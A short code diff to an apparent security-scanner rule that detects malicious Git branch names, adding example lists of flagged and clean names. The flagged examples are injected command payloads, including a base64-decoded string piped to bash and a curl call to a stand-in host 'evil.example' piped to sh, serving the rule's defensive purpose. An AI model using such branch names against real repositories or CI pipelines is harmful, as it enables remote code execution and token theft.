@@ -10,6 +10,10 @@ export const meta: RuleMeta = {
   description: `The name pipes into a shell or interpreter (|bash, |sh, |python, |node, |iex) or decodes a hidden payload (base64 -d), with spaces or \${IFS} between the words — the download-and-run step of every known branch-name attack.`,
   remediation: 'delete the ref, then audit the workflows that ran on it (caches, tokens, published artifacts)',
   example: {bad: `main$(echo\${IFS}Y3VybC4uLg==|base64\${IFS}-d|bash)`, good: 'bash-completion/fix'},
+  examples: {
+    flagged: [`main$(echo\${IFS}Y3VybC4uLg==|base64\${IFS}-d|bash)`, `x;curl\${IFS}evil.example/p|sh`],
+    clean: ['bash-completion/fix', 'feature/sh-support'],
+  },
 }
 
 export const rule: NameRule = {
